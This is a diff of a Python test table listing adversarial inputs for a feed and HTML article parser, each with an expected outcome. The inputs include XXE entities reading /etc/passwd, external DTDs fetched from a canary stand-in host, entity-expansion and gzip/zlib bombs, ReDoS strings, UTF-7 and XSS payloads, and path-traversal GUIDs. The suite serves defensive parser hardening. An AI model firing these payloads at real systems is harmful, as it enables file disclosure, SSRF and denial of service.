+    ("f_param_entity_laughs", "reject", "parameter-entity laughs", {}, _param_entity_laughs),
+    ("f_quadratic_blowup", "reject", "quadratic blowup: one 50 kB entity, 20,000 references = 1 GB", {},
+     lambda: rss(item(1, title="&a;" * 20000), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')),
+    ("f_quadratic_below_threshold", "degrade", "quadratic blowup kept under expat's 8 MiB activation threshold (7 MB)", {},
+     lambda: rss(item(1, title="&a;" * 140), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')),
+    ("f_xxe_file", "reject", "external general entity file:///etc/passwd", {"must_not_contain": "root:"},
+     lambda: rss(item(1, title="X&x;Y"), doctype='<!DOCTYPE rss [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n')),
+    ("f_xxe_http_dtd", "ok", "external DTD over HTTP (@CANARY@ is replaced by a canary URL): parse, never fetch it", {"entries": 1, "no_canary_hit": True},
+     lambda: rss(item(1), doctype='<!DOCTYPE rss SYSTEM "@CANARY@/evil.dtd">\n')),
+    ("f_xxe_param", "reject", "external parameter entity", {"no_canary_hit": True},
+     lambda: rss(item(1), doctype='<!DOCTYPE rss [\n<!ENTITY % p SYSTEM "@CANARY@/evil.dtd">\n%p;\n]>\n')),
+    ("f_xinclude", "degrade", "XInclude of a local file", {"must_not_contain": "root:"},
+     lambda: rss(item(1, title='<xi:include href="file:///etc/passwd" parse="text"/>'), ns='xmlns:xi="http://www.w3.org/2001/XInclude"')),
+    ("f_doctype_rss091", "ok", "legitimate old Netscape RSS 0.91 DOCTYPE must still parse", {"entries": 1, "no_canary_hit": True},
+     lambda: rss(item(1), doctype='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n')),
+    ("f_doctype_dev", "degrade", "DOCTYPE pointing to a local device file", {}, lambda: rss(item(1), doctype='<!DOCTYPE rss SYSTEM "file:///dev/zero">\n')),
+    # encodings
+    ("f_enc_declared_utf8_is_latin1", "ok", "declared utf-8, bytes are latin-1", {"entries": 1}, lambda: rss(item(1, title="Außenminister Müller")).encode("latin-1")),
+    ("f_enc_declared_latin1_is_utf8", "ok", "declared iso-8859-1, bytes are utf-8 (mojibake trap)", {"entries": 1},
+     lambda: rss(item(1, title="Außenminister Müller"), head='<?xml version="1.0" encoding="iso-8859-1"?>\n').encode()),
+    ("f_enc_cp1252", "ok", "windows-1252 with „quotes“ and –", {"entries": 1, "title": "„Gespräche“ – heute"},
+     lambda: rss(item(1, title="„Gespräche“ – heute"), head='<?xml version="1.0" encoding="windows-1252"?>\n').encode("cp1252")),
+    ("f_enc_utf16le_nobom", "ok", "UTF-16 LE without BOM", {"entries": 1},
+     lambda: rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-16"?>\n').encode("utf-16-le")),
+    ("f_enc_utf16_bom_declared_utf8", "ok", "UTF-16 with BOM but declared utf-8", {"entries": 1}, lambda: rss(item(1, title="Müller")).encode("utf-16")),
+    ("f_enc_utf32", "ok", "UTF-32 with BOM", {"entries": 1}, lambda: rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-32"?>\n').encode("utf-32")),
+    ("f_enc_utf7", "degrade", "declared utf-7 (filter-evasion)", {},
+     lambda: rss(item(1, title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), head='<?xml version="1.0" encoding="utf-7"?>\n')),
+    ("f_enc_unknown", "degrade", "declared encoding does not exist", {}, lambda: rss(item(1), head='<?xml version="1.0" encoding="x-klingon"?>\n')),
+    ("f_enc_python_codec", "degrade", "declared encoding is a Python byte codec (zip/rot13/idna)", {},
+     lambda: rss(item(1), head='<?xml version="1.0" encoding="zip"?>\n')),
+    ("f_leading_blank", "ok", "BOM + leading blank lines before XML declaration", {"entries": 1}, lambda: b"\xef\xbb\xbf\r\n\r\n" + rss(item(1)).encode()),
+    ("f_leading_php_warning", "ok", "PHP warning text before XML declaration", {"entries": 1},
+     lambda: "<br />\n<b>Warning</b>: mysql_connect() in /var/www/x.php on line 3<br />\n" + rss(item(1))),
+    ("f_mixed_crlf", "ok", "mixed CR, LF, CRLF", {"entries": 2}, lambda: rss(item(1) + item(2)).replace("\n", "\r\n", 2).replace("<item>", "\r<item>\n")),
+    ("f_nul_bytes", "degrade", "NUL bytes in title and guid", {}, lambda: rss(item(1, title="A\x00B", guid="id\x001") + item(2))),
+    ("f_control_chars", "degrade", "C0 control characters", {}, lambda: rss(item(1, title="A\x01\x02\x0b\x1fB") + item(2))),
+    ("f_bad_charrefs", "ok", "numeric references to NUL, surrogates, U+FFFE, > U+10FFFF in one item must not cost the feed", {"entries": 2},
+     lambda: rss(item(1, title="&#0;&#xD800;&#xFFFE;&#x110000;&#99999999999;") + item(2))),
+    ("f_bidi", "ok", "bidi overrides, zero-width, homoglyph NАТО (Cyrillic А)", {"entries": 1},
+     lambda: rss(item(1, title="\u202eOTAN\u202c N\u0410\u0422\u041e Ge\u00adspr\u00e4che\u200b\ufeff"))),
+    ("f_nfd", "ok", "NFD instead of NFC umlauts", {"entries": 1}, _nfd),
+    # size / depth
+    ("f_nested_1m", "reject", "1,000,000 nested elements", BIG, lambda: rss("<item>" + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</item>")),
+    ("f_nested_unclosed_1m", "reject", "1,000,000 nested, never closed, tag soup", BIG, lambda: HEAD + "<rss><channel><item><description>" + "<div>" * 1_000_000),
+    ("f_nested_in_content", "degrade", "100,000 nested divs inside escaped description (sanitiser path)", BIG, lambda: rss(item(1, desc="&lt;div&gt;" * 100_000 + "x"))),
+    ("f_title_10mb", "degrade", "10 MB title on one line", BIG, lambda: rss(item(1, title="A" * 10_000_000) + item(2))),
+    ("f_attr_10mb", "degrade", "10 MB attribute", BIG,
+     lambda: rss(f'<item><title>x</title><enclosure url="https://e.test/{"a" * 10_000_000}" length="1" type="a/b"/></item>')),
+    ("f_attrs_200k", "degrade", "200,000 attributes on one element", BIG,
+     lambda: rss("<item " + " ".join(f'a{i}="1"' for i in range(200_000)) + "><title>x</title></item>")),
+    ("f_entries_100k", "degrade", "100,000 entries, 17 MB", BIG, lambda: rss("".join(item(i) for i in range(100_000)))),
+    ("f_entries_20k_html", "degrade", "20,000 entries each with small HTML content", BIG,
+     lambda: rss("".join(item(i, extra='<content:encoded><![CDATA[<p>Hallo <b>Welt</b> <a href="/x">y</a></p>]]></content:encoded>') for i in range(20_000)))),
+    ("f_guid_1mb", "degrade", "1 MB guid", BIG, lambda: rss(item(1, guid="g" * 1_000_000) + item(2))),
+    ("f_ns_100k", "degrade", "100,000 namespaces", BIG, lambda: rss("<item " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(100_000)) + "><title>x</title></item>")),
+    ("f_redos_newlines", "reject", "2 MB of newlines, no tag (regex ^\\s* quadratic)", BIG, lambda: HEAD + "\n" * 2_000_000),
+    ("f_redos_newlines_200k", "degrade", "200 kB of blank lines before <rss> (regex ^\\s* quadratic, small file)", {},
+     lambda: HEAD + "\n" * 200_000 + rss(item(1), head="")),
+    ("f_redos_bang", "degrade", '300 kB of "<!" (tag-soup regexes)', {}, lambda: HEAD + "<rss><channel><item><title>" + "<!" * 150_000),
+    ("f_redos_lt", "degrade", '300 kB of "<" ', {}, lambda: HEAD + "<rss><channel><item><title>" + "<" * 300_000),
+    ("f_redos_amp", "degrade", '200,000 "&" without semicolon', {}, lambda: HEAD + "<rss><channel><item><title>" + "&" * 200_000),
+    ("f_redos_css", "degrade", "style attribute, 100 kB, CSS sanitiser regexes", {}, lambda: rss(item(1, desc='&lt;p style="' + "a:" * 50_000 + '"&gt;x&lt;/p&gt;'))),
+    ("f_redos_date", "degrade", "date string of 100,000 digits/spaces (date regexes)", {},
+     lambda: rss(item(1, date="1" * 50_000 + " " * 50_000 + "x") + item(2, date="Mon, " + "0" * 100_000))),
+    ("f_redos_author", "degrade", "author regex bait, 100 kB (feedparser issue 562, still quadratic in 6.0.14)", {},
+     lambda: rss(item(1, extra="<author>x@" + "a." * 50_000 + "!</author>") + item(2))),
+    # structure
+    ("f_empty", "reject", "empty body", {}, lambda: ""),
+    ("f_whitespace", "reject", "whitespace only", {}, lambda: " \n\t " * 100),
+    ("f_truncated", "degrade", "truncated in the middle of item 3 of 5", {"min_entries": 2}, _truncated),
+    ("f_truncated_multibyte", "degrade", "truncated inside a multi-byte character", {"min_entries": 2}, _truncated_multibyte),
+    ("f_unclosed_cdata", "degrade", "unclosed CDATA", {}, lambda: rss(item(1) + "<item><title><![CDATA[Offen</title></item>")),
+    ("f_unclosed_comment", "degrade", "unclosed comment", {}, lambda: rss(item(1) + "<!-- offen " + item(2))),
+    ("f_two_roots", "degrade", "two concatenated documents", {}, lambda: rss(item(1)) + rss(item(2))),
+    ("f_raw_ampersand", "ok", "unescaped & in title and link", {"entries": 2},
+     lambda: rss(item(1, title="Krieg & Frieden", link="https://example.test/a?x=1&y=2") + item(2))),
+    ("f_html_entities", "ok", "undeclared HTML entity &nbsp; &uuml;", {"entries": 1}, lambda: rss(item(1, title="M&uuml;ller&nbsp;&ndash;&nbsp;heute"))),
+    ("f_undeclared_ns", "ok", "undeclared namespace prefix", {"entries": 1}, lambda: rss(item(1, extra='<media:content url="https://e.test/x.jpg"/>'))),
+    ("f_html_error_page", "reject", "HTTP 200 HTML error page instead of feed", {}, lambda: html("<h1>503 Service Unavailable</h1><p>Wartungsarbeiten</p>")),
+    ("f_html_consent", "reject", "HTTP 200 consent wall instead of feed", {},
+     lambda: html('<div id="sp_message_container"><h2>Wir und unsere Partner brauchen Ihre Zustimmung</h2><button>Alle akzeptieren</button></div><script src="https://cmp.example.test/x.js"></script>')),
+    ("f_html_login", "reject", "login page with redirects in meta refresh", {},
+     lambda: html("<form action=/login><input name=u><input name=p type=password></form>", head='<meta http-equiv=refresh content="0;url=/login">')),
+    ("f_html_challenge", "reject", "bot challenge page", {},
+     lambda: html("<noscript>Enable JavaScript and cookies to continue</noscript>", head="<title>Just a moment...</title>")),
+    ("f_json_feed", "degrade", "JSON Feed 1.1", {},
+     lambda: json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "T", "items": [{"id": "1", "url": "https://example.test/a/1", "title": "Meldung", "content_text": "x", "date_published": "2022-01-10T15:30:00+01:00"}]})),
+    ("f_json_deep", "reject", "JSON nested 100,000 deep", {}, lambda: "[" * 100_000),
+    ("f_png", "reject", "PNG bytes with feed content type", {}, lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50),
+    ("f_pdf", "reject", "PDF", {}, lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0" * 2000),
+    ("f_body_is_path", "reject", "body is a local path: feedparser.parse(bytes) would open it", {"must_not_contain": "root:"}, lambda: b"/etc/passwd"),
+    ("f_body_is_url", "reject", "body is a URL: feedparser.parse(str) would fetch it", {"no_canary_hit": True}, lambda: "@CANARY@/ssrf-by-body"),
+    ("f_body_is_gzip_bomb", "reject", "gzip bomb 1000:1 as body without header (100 MB)", {}, lambda: gzip.compress(b"<rss>" + b" " * 100_000_000, 9, mtime=0)),
+    ("f_body_gzip_noheader", "ok", "gzip body without Content-Encoding header", {"entries": 1}, lambda: gzip.compress(rss(item(1)).encode(), mtime=0)),
+    # identity, dates
+    ("f_no_guid", "ok", "missing guid (link is identity)", {"entries": 2}, lambda: rss(item(1, guid="") + item(2, guid=""))),
+    ("f_no_link", "ok", "missing link, guid only", {"entries": 2}, lambda: rss(item(1, link="") + item(2, link=""))),
+    ("f_no_guid_no_link", "ok", "neither guid nor link", {"entries": 2}, lambda: rss(item(1, guid="", link="") + item(2, guid="", link=""))),
+    ("f_empty_guid", "ok", "empty guid element", {"entries": 2}, lambda: rss(item(1, guid=" ") + item(2, guid=" "))),
+    ("f_dup_guid", "ok", "same guid, different links (two different articles)", {"entries": 2, "distinct_articles": 2},
+     lambda: rss(item(1, guid="same") + item(2, guid="same"))),
+    ("f_dup_item", "ok", "same item twice in one document", {"entries": 2, "distinct_articles": 1}, lambda: rss(item(1) + item(1))),
+    ("f_link_variants", "ok", "same article under http/https, utm_*, trailing slash, fragment, AMP", {"entries": 6, "distinct_articles": 1}, _link_variants),
+    ("f_bad_dates", "ok", "invalid dates: Feb 30, year 1, year 9999, year 0, epoch 0, words, German, tz +9999, leap second, missing", {"entries": 16}, _bad_dates),
+    ("f_future_dates", "ok", "dates in the future (+1 h, 2099)", {"entries": 2},
+     lambda: rss(item(1, date="Thu, 01 Jan 2099 00:00:00 GMT") + item(2, date="Fri, 01 Jan 2038 03:14:08 GMT"))),
+    ("f_dst_dates", "ok", "DST: 02:30 on 2022-03-27 (does not exist) and 2022-10-30 (twice), CET/CEST/MESZ names", {"entries": 5},
+     lambda: rss("".join(item(i, date=d) for i, d in enumerate(["Sun, 27 Mar 2022 02:30:00 CET", "Sun, 30 Oct 2022 02:30:00 CEST", "Sun, 30 Oct 2022 02:30:00 CET", "Sun, 30 Oct 2022 02:30:00 MESZ", "2022-10-30T02:30:00 Europe/Berlin"])))),
+    # injection
+    ("f_xss", "ok", "stored-XSS payloads in title, description, content, author, category, link", {"entries": len(XSS), "no_active_html": True}, _xss),
+    ("f_text_injection", "ok", "markdown / Slack / Discord / Jinja / CSV / log / e-mail injection in titles", {"entries": 13, "no_active_markup": True}, _text_injection),
+    ("f_evil_links", "ok", "SSRF / scheme / credential / header-splitting URLs as item links", {"entries": len(URLS), "no_fetch_of_non_public": True}, _evil_links),
+    ("f_path_traversal", "ok", "path traversal in guid/title (if ever used as a file name)", {"entries": 4},
+     lambda: rss(item(1, guid="../../../../etc/cron.d/x") + item(2, guid="..\\..\\x") + item(3, guid="/etc/passwd") + item(4, guid="a" * 300 + "/CON"))),
+    # HTML articles
+    ("h_good", "ok", "plain good article", {"min_chars": 800}, lambda: html(article())),
+    ("h_nested_div_1m", "reject", "1,000,000 nested <div>", BIG, lambda: html("<div>" * 1_000_000 + ART + "</div>" * 1_000_000)),
+    ("h_nested_div_10k", "degrade", "10,000 nested <div> around a good article", {}, lambda: html("<div>" * 10_000 + article() + "</div>" * 10_000)),
+    ("h_nested_div_200", "degrade", "200 nested <div> around a good article", {"min_chars": 800}, lambda: html("<div>" * 200 + article() + "</div>" * 200)),
+    ("h_nested_b_1m", "degrade", "1,000,000 nested <b>, unclosed", BIG, lambda: html(article() + "<b>" * 1_000_000)),
+    ("h_line_10mb", "degrade", "10 MB single text line in one <p>", BIG, lambda: html("<article><p>" + ART * 47_000 + "</p></article>")),
+    ("h_word_10mb", "degrade", "10 MB single word", BIG, lambda: html("<article><p>" + "a" * 10_000_000 + "</p></article>")),
+    ("h_paras_200k", "degrade", "200,000 short paragraphs, 9 MB", BIG,
+     lambda: html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 200_000 + "</article>")),
+    ("h_paras_20k", "degrade", "20,000 paragraphs, 0.9 MB", {}, lambda: html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 20_000 + "</article>")),
+    ("h_table_100k", "degrade", "100,000 table rows", BIG, lambda: html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 100_000 + "</table></article>")),
+    ("h_table_10k", "degrade", "10,000 table rows", {}, lambda: html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 10_000 + "</table></article>")),
+    ("h_links_100k", "degrade", "100,000 links", BIG, lambda: html(article() + "".join(f'<a href="/x{i}">Link {i}</a>' for i in range(100_000)))),
+    ("h_nested_lists", "degrade", "20,000 nested lists", {}, lambda: html(article() + "<ul><li>" * 20_000)),
+    ("h_br_100k", "degrade", "100,000 <br>", {}, lambda: html(article() + "<p>" + "<br>" * 100_000 + "</p>")),
+    ("h_lt_1m", "degrade", '1,000,000 "<"', BIG, lambda: html("<article><p>" + "<" * 1_000_000)),
+    ("h_comments", "degrade", '500,000 "<!--" unclosed', BIG, lambda: html(article() + "<!--" * 500_000)),
+    ("h_attrs", "degrade", "100,000 attributes", BIG, lambda: html("<article " + " ".join(f"a{i}=1" for i in range(100_000)) + "><p>" + ART * 5 + "</p></article>")),
+    ("h_jsonld_deep", "degrade", "JSON-LD nested 100,000 deep (json RecursionError)", {},
+     lambda: html(article(), head='<meta charset=utf-8><title>T</title><script type="application/ld+json">' + '{"a":' * 100_000 + "1" + "}" * 100_000 + "</script>")),
+    ("h_jsonld_redos", "degrade", "JSON-LD with regex-unfriendly 500 kB", {},
+     lambda: html(article(), head='<meta charset=utf-8><title>T</title><script type="application/ld+json">{"@type":"NewsArticle","author":' + '{"@type":"Person","name":' * 20_000 + "</script>")),
+    ("h_date_redos", "degrade", "date-regex bait: 300 kB of digits and dots", {},
+     lambda: html(article() + "<p>" + "10.01." * 50_000 + "</p><time>" + "2022-" * 20_000 + "</time>")),
+    ("h_meta_huge", "degrade", "meta tags with 1 MB values", {},
+     lambda: html(article(), head='<meta charset=utf-8><meta property="og:title" content="' + "T" * 500_000 + '"><meta name=author content="' + "von " * 100_000 + '">')),
+    ("h_nul", "degrade", "NUL and control bytes in text", {"min_chars": 700}, lambda: html(article().replace("Genf", "Ge\x00nf\x01"))),
+    ("h_enc_latin1", "ok", "header says utf-8, bytes latin-1, meta says utf-8", {"min_chars": 800, "text": "Gespräche"}, lambda: html(article()).encode("latin-1")),
+    ("h_enc_conflict", "ok", "meta iso-8859-1, bytes utf-8", {"min_chars": 800, "text": "Gespräche"},
+     lambda: html(article(), head='<meta charset="iso-8859-1"><title>T</title>').encode()),
+    ("h_utf16_nobom", "ok", "UTF-16 LE without BOM", {"min_chars": 800, "text": "Gespräche"}, lambda: html(article()).encode("utf-16-le")),
+    ("h_truncated", "degrade", "article truncated half-way through the body (must be flagged as truncated)", {}, _half_a_page),
+    ("h_consent", "reject", "consent wall, HTTP 200", {}, lambda: CASES["f_html_consent"].make()),
+    ("h_paywall", "degrade", "paywall teaser: 1 paragraph then offer text", {},
+     lambda: html(f'<article><h1>Titel</h1><p>{ART}</p><div class="paywall"><h2>Jetzt weiterlesen mit Plus</h2><p>Testen Sie 4 Wochen für 1 Euro.</p></div></article>')),
+    ("h_soft404", "reject", "soft 404, HTTP 200", {},
+     lambda: html("<h1>Seite nicht gefunden</h1><p>Die gewünschte Seite existiert nicht mehr. Bitte nutzen Sie die Suche.</p>")),
+    ("h_js_only", "degrade", "template change: body rendered by JavaScript, empty HTML", {},
+     lambda: html('<div id="root"></div><script>window.__DATA__={"body":"' + ART * 4 + '"}</script>')),
+    ("h_xss", "ok", "XSS payloads in article text", {"no_active_html": True},
+     lambda: html("<article>" + "".join(f"<p>{_S[i % 8]} Absatz {i}. {x}</p>" for i, x in enumerate(XSS)) + "</article>")),
+    ("h_tdm_optout", "ok", "robots noai/noindex + tdm-reservation meta: policy must be seen", {"policy": "tdm-reservation=1"},
+     lambda: html(article(), head='<meta charset=utf-8><title>T</title><meta name="tdm-reservation" content="1"><meta name="tdm-policy" content="https://example.test/tdm.json"><meta name="robots" content="noindex, noai">')),
+    ("h_gzip_bomb_bytes", "reject", "bytes are a gzip bomb (100 MB) although no header said so", {},
+     lambda: gzip.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9, mtime=0)),
+    ("h_zlib_bomb_bytes", "reject", "bytes are a zlib bomb (100 MB)", {}, lambda: zlib.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9)),
+    ("h_empty", "reject", "empty", {}, lambda: ""),
+    ("h_billion_laughs", "reject", "XML with billion laughs where HTML is expected", {}, lambda: CASES["f_billion_laughs"].make()),
+    ("h_pdf", "reject", "PDF bytes", {}, lambda: CASES["f_pdf"].make()),
+)  # fmt: skip
+"""Name (f_ of a feed, h_ of a page), what is required, what it is, what is wanted of it or BIG, and how it is made."""
 
-
-@case("html", "degrade", "paywall teaser: 1 paragraph then offer text")
-def h_paywall():
-    return html(
-        f'<article><h1>Titel</h1><p>{ART}</p><div class="paywall"><h2>Jetzt weiterlesen mit Plus</h2><p>Testen Sie 4 Wochen für 1 Euro.</p></div></article>'
+CASES = {
+    name: Case(
+        kind="feed" if name.startswith("f_") else "html",
+        expect=expect,
+        note=note,
+        want={} if want is BIG else want,
+        big=want is BIG,
+        make=make,
     )
-
-
-@case("html", "reject", "soft 404, HTTP 200")
-def h_soft404():
-    return html(
-        "<h1>Seite nicht gefunden</h1><p>Die gewünschte Seite existiert nicht mehr. Bitte nutzen Sie die Suche.</p>"
-    )
-
-
-@case("html", "degrade", "template change: body rendered by JavaScript, empty HTML")
-def h_js_only():
-    return html('<div id="root"></div><script>window.__DATA__={"body":"' + ART * 4 + '"}</script>')
-
-
-@case("html", "ok", "XSS payloads in article text", want={"no_active_html": True})
-def h_xss():
-    return html("<article>" + "".join(f"<p>{_S[i % 8]} Absatz {i}. {x}</p>" for i, x in enumerate(XSS)) + "</article>")
-
-
-@case(
-    "html",
-    "ok",
-    "robots noai/noindex + tdm-reservation meta: policy must be seen",
-    want={"policy": "tdm-reservation=1"},
-)
-def h_tdm_optout():
-    return html(
-        article(),
-        head='<meta charset=utf-8><title>T</title><meta name="tdm-reservation" content="1"><meta name="tdm-policy" content="https://example.test/tdm.json"><meta name="robots" content="noindex, noai">',
-    )
-
-
-@case("html", "reject", "bytes are a gzip bomb (100 MB) although no header said so")
-def h_gzip_bomb_bytes():
-    return gzip.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9, mtime=0)
-
-
-@case("html", "reject", "bytes are a zlib bomb (100 MB)")
-def h_zlib_bomb_bytes():
-    return zlib.compress(b"<html><body>" + b"<p>a</p>" * 12_500_000, 9)
-
-
-@case("html", "reject", "empty")
-def h_empty():
-    return ""
-
-
-@case("html", "reject", "XML with billion laughs where HTML is expected")
-def h_billion_laughs():
-    return f_billion_laughs()
-
-
-@case("html", "reject", "PDF bytes")
-def h_pdf():
-    return f_pdf()
+    for name, expect, note, want, make in _ROWS
+}
 
 
 def build(name: str, canary: str = "http://127.0.0.1:9") -> bytes:
